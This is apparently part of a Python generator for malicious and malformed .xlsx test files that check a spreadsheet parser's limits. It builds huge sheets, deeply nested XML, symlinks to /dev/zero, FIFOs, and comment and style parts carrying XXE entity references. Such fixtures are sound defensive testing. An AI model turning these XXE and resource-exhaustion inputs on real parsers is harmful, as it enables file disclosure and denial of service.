              lambda path: write(path, book(method=0, sheet=sheet_xml(sheet_data="".join(
                  "<row>" + "<c/>" * 16384 + "</row>" for _ in range(62)))))))
# the same sheet under a low cell limit: empty cells count too
CASES.append(("million-empty-cells-limit.xlsx", "(limit --max-cells)", "big", "--max-cells 100000",
              lambda path: os.link(path.replace("-limit", ""), path)))
CASES.append(("too-big-file.xlsx", "(limit --max-file-bytes)", "big", "",
              lambda path: (write(path, book()), os.truncate(path, (100 << 20) + 1))))
CASES.append(("folder.xlsx", "is a directory", "big", "", lambda path: os.mkdir(path)))
CASES.append(("devzero.xlsx", "is a character device", "big", "", lambda path: os.symlink("/dev/zero", path)))
CASES.append(("fifo.xlsx", "is a FIFO", "big", "", lambda path: os.mkfifo(path)))
CASES.append(("dangling-link.xlsx", "cannot open", "big", "",
              lambda path: os.symlink(path + ".does-not-exist", path)))
CASES.append(("missing.xlsx", "cannot open", "big", "", lambda path: None))



# -- the parts laid over the cells (issue 16): comments, VML check boxes, drawings, styles
def sheet_rels(*rels):
    r = "".join(f'<Relationship Id="rIdX{i}" Type="{t}" Target="{target}"/>' for i, (t, target) in enumerate(rels))
    return ("sheetrels", ("xl/worksheets/_rels/sheet1.xml.rels", DECL + f'<Relationships xmlns="{PKG_RELS}">{r}</Relationships>'))


def with_part(rel_type, name, data, **over):
    k, v = sheet_rels((rel_type, "../" + name.split("xl/", 1)[1]))
    return book(**{k: v, "extra": (name, data)}, **over)


VML_OPEN = '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel">'
VML_BOX = '<v:shape id="_x0000_s1025"><x:ClientData ObjectType="Checkbox"><x:Anchor>2, 0, 1, 0, 2, 0, 1, 0</x:Anchor></x:ClientData></v:shape>'
simple("vml-shape-2mb.xlsx", "a VML shape is longer than 1048576 bytes (a fixed limit)",
       lambda: with_part(f"{OFFDOC}/vmlDrawing", "xl/drawings/vmlDrawing1.vml",
                         VML_OPEN + '<v:shape id="_x0000_s1025"><v:textbox><div>' + "適合<br>" * 300000
                         + "</div></v:textbox></v:shape></xml>"), opts="--max-ratio 100000")
simple("vml-shapes-10001.xlsx", "more than 10000 comments, check boxes and shapes (a fixed limit)",
       lambda: with_part(f"{OFFDOC}/vmlDrawing", "xl/drawings/vmlDrawing1.vml", VML_OPEN + VML_BOX * 10001 + "</xml>"),
       opts="--max-ratio 100000")
simple("vml-unclosed-2mb.xlsx", "a VML shape is longer than 1048576 bytes (a fixed limit)",
       lambda: with_part(f"{OFFDOC}/vmlDrawing", "xl/drawings/vmlDrawing1.vml",
                         VML_OPEN + '<v:shape id="_x0000_s1025"><x:ClientData ObjectType="Checkbox">' + "<br>" * 600000),
       opts="--max-ratio 100000")
simple("comments-doctype.xlsx", DOCTYPE_MSG,
       lambda: with_part(f"{OFFDOC}/comments", "xl/comments1.xml",
                         DECL + XXE + f'<comments {NS}><commentList><comment ref="C2"><text><t>&xxe;</t></text>'
                         "</comment></commentList></comments>"))
simple("comment-100kb.xlsx", "a comment or caption is longer than 98301 bytes (a fixed limit)",
       lambda: with_part(f"{OFFDOC}/comments", "xl/comments1.xml",
                         DECL + f'<comments {NS}><authors><author>a</author></authors><commentList>'
                         f'<comment ref="C2" authorId="0"><text><t>{"あ" * 40000}</t></text></comment>'
                         "</commentList></comments>"))
simple("threaded-deep.xlsx", "deeper than 256",
       lambda: with_part("http://schemas.microsoft.com/office/2017/10/relationships/threadedComment",
                         "xl/threadedComments/threadedComment1.xml",
                         DECL + '<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/'
                         'threadedcomments"><threadedComment ref="C2"><text>' + "<a>" * 100000 + "</a>" * 100000
                         + "</text></threadedComment></ThreadedComments>"))
simple("drawing-malformed.xlsx", "malformed XML",
       lambda: with_part(f"{OFFDOC}/drawing", "xl/drawings/drawing1.xml",
                         DECL + '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing">'
                         "<xdr:twoCellAnchor><xdr:from><xdr:col>2</xdr:col>"))
simple("drawing-anchors-10001.xlsx", "more than 10000 comments, check boxes and shapes (a fixed limit)",
       lambda: with_part(f"{OFFDOC}/drawing", "xl/drawings/drawing1.xml",
                         DECL + '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing">'
                         + "<xdr:oneCellAnchor><xdr:from><xdr:col>2</xdr:col><xdr:row>1</xdr:row></xdr:from>"
                           "<xdr:sp/></xdr:oneCellAnchor>" * 10001 + "</xdr:wsDr>"), opts="--max-ratio 100000")
# styles.xml is read when a cell may hold a symbol-font glyph (þ) or a date
STYLES_REL = f'<Relationship Id="rId3" Type="{OFFDOC}/styles" Target="styles.xml"/>'
SYMBOL_SST = sst_xml(si_override={5: "<si><t>\u00fe■適合　備考：なし</t></si>"})
simple("styles-doctype.xlsx", DOCTYPE_MSG,
       lambda: book(wbrels=workbook_rels(extra=STYLES_REL), sst=SYMBOL_SST,
                    extra=("xl/styles.xml", DECL + XXE + f"<styleSheet {NS}><fonts><font><name val=\"&xxe;\"/></font>"
                           "</fonts></styleSheet>")))
simple("styles-fonts-70000.xlsx", "more than 65536 fonts (a fixed limit)",
       lambda: book(wbrels=workbook_rels(extra=STYLES_REL), sst=SYMBOL_SST,
                    extra=("xl/styles.xml", DECL + f"<styleSheet {NS}><fonts>" + "<font/>" * 70000
                           + "</fonts></styleSheet>")))
simple("styles-numfmt-long.xlsx", "a number format code is longer than 1024 bytes (a fixed limit)",
       lambda: book(wbrels=workbook_rels(extra=STYLES_REL), sst=SYMBOL_SST,
                    extra=("xl/styles.xml", DECL + f"<styleSheet {NS}><numFmts count=\"1\"><numFmt numFmtId=\"164\" "
                           f"formatCode=\"{'y' * 2000}\"/></numFmts></styleSheet>")))


def main(argv):
    if len(argv) == 2 and argv[1] == "list":
        for name, reason, size, opts, _ in CASES:
            print(f"{size}\t{name}\t{reason}\t{opts}")
        return 0
    if len(argv) != 3 or argv[1] not in ("small", "big", "valid"):
        sys.stderr.write(__doc__)
        return 2
    what, out = argv[1], argv[2]
    os.makedirs(out, exist_ok=True)
    if what == "valid":
        # the minimal checklist itself, for sanity checks and output-side tests
        write(os.path.join(out, "valid.xlsx"), book())
        return 0
    lines = []
    for name, reason, size, opts, fn in CASES:
        if size != what:
            continue
        path = os.path.join(out, name)
        if os.path.lexists(path) and not os.path.isdir(path):
            os.unlink(path)
        elif os.path.isdir(path):
            os.rmdir(path)
        fn(path)
        lines.append(f"{name}\t{reason}\t{opts}\n")
    with open(os.path.join(out, "expect.tsv"), "w", encoding="utf-8") as f:
        f.writelines(lines)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
